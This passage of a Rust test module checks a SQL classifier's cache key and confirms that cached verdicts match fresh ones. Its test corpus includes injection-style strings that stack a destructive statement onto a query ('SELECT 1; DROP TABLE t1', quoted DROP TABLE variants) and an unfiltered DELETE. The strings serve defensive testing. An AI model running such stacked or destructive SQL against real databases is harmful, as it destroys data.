        assert_ne!(
            key("SELECT 1.5"),
            key("SELECT 2.5"),
            "only whole numbers are blanked"
        );
        assert_ne!(key("SELECT 1e5"), key("SELECT 2e5"));
        assert_ne!(key("SELECT 0x1F"), key("SELECT 1x1F"));
        for not_plain in [
            "SELECT 'a'",
            "SELECT \"t 1\"",
            "SELECT 1 -- 2",
            "SELECT 1 /* 2 */",
            "SELECT $1",
            "SELECT $$1$$",
            "SELECT E'\\1'",
            "SELECT `x`",
            "SELECT 1 # 2",
            "SELECT ?",
            "SELECT café",
        ] {
            assert_eq!(key(not_plain), None, "{not_plain}");
        }
    }

    #[test]
    fn remembered_answers_match_fresh_ones() {
        let mut classifier = Classifier::new(Dialect::Postgres);
        let corpus = [
            "SELECT * FROM t WHERE id = 1",
            "SELECT * FROM t WHERE id = 2",
            "SELECT * FROM \"t 1\" WHERE id = 3",
            "SELECT * FROM \"t 2\" WHERE id = 3",
            "SELECT 'a'' ; DROP TABLE t ; ''b'",
            "SELECT 'a' ; DROP TABLE t ; 'b'",
            "DELETE FROM t WHERE id = 1",
            "DELETE FROM t",
            "SELECT 1; DROP TABLE t1",
            "SELECT 1; DROP TABLE t2",
            "SELECT * FROM t WHERE a = 'x' AND id = 1",
            "SELECT * FROM t WHERE a = 'x' AND id = 2",
            "SELECT * FROM t WHERE a = 'x'' AND id = 2'",
        ];
        for _ in 0..2 {
            for sql in corpus {
                let fresh = Classifier::new(Dialect::Postgres).classify(sql);
                assert_eq!(classifier.classify(sql), fresh, "{sql}");
            }
        }
    }
}
